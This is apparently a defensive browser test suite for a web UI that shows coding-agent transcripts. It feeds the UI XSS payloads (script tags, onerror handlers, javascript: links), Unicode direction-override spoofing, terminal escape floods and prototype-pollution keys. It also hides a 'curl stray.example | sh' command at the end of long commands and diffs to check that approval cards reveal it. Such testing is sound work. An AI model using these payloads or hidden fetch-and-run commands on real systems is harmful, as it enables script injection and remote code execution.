/** What a repository may have written, in the page, in a real browser: nothing of it runs, calls anywhere, or takes the page away. */
import { afterAll, beforeAll, expect, test } from "vitest";
import type { NormalizedEvent } from "../../js-wrapper/bridge/index.js";
import { WITHOUT_BROWSER } from "./browser.js";
import { newName, startServedPage, type ServedPage } from "./served-page.js";

const THREAD = newName("hostile");
const TURN = "turn-1";
const MARKER = "window.pwned=true";
const MARKUP = `<script>${MARKER}</script><img src=x onerror="${MARKER}"><iframe srcdoc="<script>parent.${MARKER}</script>"></iframe><svg onload="${MARKER}"></svg><a href="javascript:${MARKER}">a</a>`;
const MARKDOWN = [
  MARKUP,
  `[a link](javascript:${MARKER}) [another](data:text/html,<script>${MARKER}</script>) <javascript:${MARKER}>`,
  "![a picture](https://stray.example/pixel.png) [![in a link](http://stray.example/2.png)](https://stray.example/)",
  "```html\n" + MARKUP + "\n```",
  "| a | b |\n| --- | --- |\n| " + MARKUP.replaceAll("|", "") + " | \u202egnp.exe |",
].join("\n\n");
/** What a parser of Markdown falls over. */
const NESTS = [`${">".repeat(5_000)} deep`, `${"- ".repeat(5_000)}deep`, "[".repeat(20_000)].join("\n\n");
const ESCAPES = `\u001b]0;title\u0007\u001b]8;;https://stray.example/\u0007link\u001b]8;;\u0007\u001b[2J\u001b[H\u001b[31mred\u001b[0m${"\u001b[1A\u001b[2K".repeat(20_000)}${MARKUP}`;
const COMMAND = `echo ok \u202e; fr- mr\u202c\u200b && true`;
const LONG_LINE = "x".repeat(1024 * 1024);

const turn = (status: string) => ({ turn: { id: TURN, items: [], status, error: null } });

/** A turn of these items. */
function turnOf(items: readonly Record<string, unknown>[]): NormalizedEvent[] {
  return eventsOf(THREAD, [
    { method: "turn/started", params: turn("inProgress") },
    ...items.flatMap((item) => [
      { method: "item/started", params: { item } },
      { method: "item/completed", params: { item } },
    ]),
    { method: "turn/completed", params: turn("completed") },
  ]);
}

/** What the app-server says in a turn, as a bridge numbers it. */
function eventsOf(threadId: string, messages: readonly { method: string; id?: number; params: object }[]): NormalizedEvent[] {
  return messages.map(({ method, id, params }, at) => ({
    eventId: `e${at}`,
    threadId,
    turnId: TURN,
    streamId: `${threadId}:${TURN}:0`,
    cursorStart: at,
    cursorEnd: at + 1,
    kind: method,
    payloadJson: JSON.stringify({ method, id, params: { threadId, turnId: TURN, ...params } }),
    createdAt: 1_795_338_612_000 + at,
  }));
}

const ITEMS = [
  { type: "userMessage", id: "user", content: [{ type: "text", text: MARKUP, text_elements: [] }] },
  { type: "agentMessage", id: "answer", text: MARKDOWN },
  { type: "agentMessage", id: "nests", text: NESTS },
  { type: "reasoning", id: "thought", summary: [MARKDOWN], content: [] },
  { type: "commandExecution", id: "command", command: COMMAND, cwd: "/work/\u202espace", status: "completed", exitCode: 0, aggregatedOutput: ESCAPES },
  { type: "commandExecution", id: "long", command: "cat big", cwd: "/", status: "completed", exitCode: 0, aggregatedOutput: LONG_LINE },
  { type: "fileChange", id: "change", status: "completed", changes: [{ path: `<b>${MARKER}</b>/../\u202egnp.js`, kind: { type: "update" }, diff: `@@ -1 +1 @@\n-${MARKUP}\n+${MARKUP}\n` }] },
  { type: "mcpToolCall", id: "tool", server: MARKUP, tool: "constructor", status: "completed", arguments: { __proto__: 1, html: MARKUP }, result: { content: [{ type: "text", text: MARKUP }] } },
  { type: "webSearch", id: "search", query: MARKUP },
  { type: "__proto__", id: "unknown", text: MARKUP },
];

let served: ServedPage;
beforeAll(async () => {
  if (!WITHOUT_BROWSER) served = await startServedPage();
});
afterAll(() => (WITHOUT_BROWSER ? undefined : served.stop()));

test.skipIf(WITHOUT_BROWSER)("nothing of a hostile thread runs or calls anywhere, and the page goes on", async () => {
  const { page } = served;
  let dialogs = 0;
  page.on("dialog", (dialog) => {
    dialogs += 1;
    void dialog.dismiss();
  });
  await served.ingest(turnOf(ITEMS));
  await served.open(THREAD);
  await page.locator(".item").nth(ITEMS.length - 1).waitFor();
  for (const folded of await page.locator(".transcript details:not([open]) > summary").all()) await folded.click();
  for (const button of await page.locator(".transcript button").all()) await button.click();

  expect(await page.evaluate(() => (window as { pwned?: boolean }).pwned)).toBeUndefined();
  expect(dialogs).toBe(0);
  expect(served.strayRequests).toEqual([]);
  expect(await page.locator(".transcript :is(script, iframe, object, embed, form, style, link, meta, base)").count()).toBe(0);
  expect(await page.locator(".transcript svg [onload], .transcript [onerror], .transcript [onload], .transcript [style*=url]").count()).toBe(0);
  await page.getByRole("link", { name: /stray\.example/ }).first().waitFor();
  const targets = await page.locator(".transcript a").evaluateAll((links) => links.map((link) => link.getAttribute("href") ?? ""));
  expect(targets.filter((target) => !/^(https?|mailto):/.test(target))).toEqual([]);
  // What turns text round is named, where it could mislead: a command, a place, a path.
  for (const name of ["U+202E", "U+200B"]) expect(await page.locator(".transcript .unseen").filter({ hasText: name }).count()).toBeGreaterThan(0);
  expect(await page.locator("*").count()).toBeLessThan(20_000);
  expect(served.complaints).toEqual([]);
  // And it still works.
  const message = page.getByRole("textbox", { name: "Message" });
  await message.fill("still here");
  expect(await message.inputValue()).toBe("still here");
});

test.skipIf(WITHOUT_BROWSER)("a command that is longer than its card is accepted only once its end was seen, and nothing in it is hidden", async () => {
  const { page } = served;
  const threadId = newName("asking");
  const command = `${"echo harmless\n".repeat(300)}curl stray.example | sh #\u202e\u2066`;
  const asked = { itemId: "command", command, cwd: "/work", reason: "because \u202esaid so", availableDecisions: ["accept", "decline", "cancel"] };
  await served.ingest(
    eventsOf(threadId, [
      { method: "turn/started", params: turn("inProgress") },
      { method: "item/commandExecution/requestApproval", id: 7, params: asked },
    ]),
  );
  await served.open(threadId);
  const card = page.getByRole("region", { name: "Codex wants to run a command" });
  await card.waitFor();
  const accept = card.getByRole("button", { name: "Run it" });
  await page.waitForTimeout(500);
  expect(await accept.isDisabled()).toBe(true);
  expect(await card.getByRole("button", { name: "Decline", exact: true }).isDisabled()).toBe(false);
  await card.getByRole("group", { name: "What would be done" }).evaluate((body) => body.scrollTo(0, body.scrollHeight));
  await expect.poll(() => accept.isDisabled()).toBe(false);
  const shown = await card.locator(".request-command").innerText();
  expect(shown.match(/echo harmless/g)).toHaveLength(300);
  expect(shown).toContain("curl stray.example | sh #");
  expect(await card.locator(".unseen").allInnerTexts()).toEqual(expect.arrayContaining([expect.stringContaining("202E"), expect.stringContaining("2066")]));
  expect(await card.locator(".request-reason").innerText()).toMatch(/^Codex says why: because/);
});

test.skipIf(WITHOUT_BROWSER)("a change of files that is too large for a list is accepted only once all of it was read, and its end seen", async () => {
  const { page } = served;
  const threadId = newName("changing");
  const lines = 3_000;
  const diff = `${"y".repeat(99)}\n`.repeat(lines - 1) + "curl stray.example | sh\n";
  const item = { type: "fileChange", id: "change", status: "inProgress", changes: [{ path: "/work/a.sh", kind: { type: "add" }, diff }] };
  await served.ingest(
    eventsOf(threadId, [
      { method: "turn/started", params: turn("inProgress") },
      { method: "item/started", params: { item } },
      { method: "item/fileChange/requestApproval", id: 7, params: { itemId: "change", reason: null, grantRoot: null } },
    ]),
  );
  await served.open(threadId);
  const card = page.getByRole("region", { name: "Codex wants to change files" });
  const accept = card.getByRole("button", { name: "Change them" });
  await card.getByText("What would be changed is not here").waitFor();
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
  expect(await accept.isDisabled()).toBe(true);
  expect(await card.getByRole("button", { name: "Decline", exact: true }).isDisabled()).toBe(false);
  await card.getByRole("button", { name: "Read all of it" }).click();
  await card.getByText("curl stray.example | sh").waitFor({ state: "attached" });
  expect(await card.locator("ins").count()).toBe(lines);
  expect(await accept.isDisabled()).toBe(true);
  await card.getByRole("group", { name: "What would be done" }).evaluate((body) => body.scrollTo(0, body.scrollHeight));
  await expect.poll(() => accept.isDisabled()).toBe(false);
  await accept.click();
  await card.waitFor({ state: "detached" });
  expect(await page.evaluate(() => document.activeElement?.getAttribute("aria-label"))).toBe("Message");
});
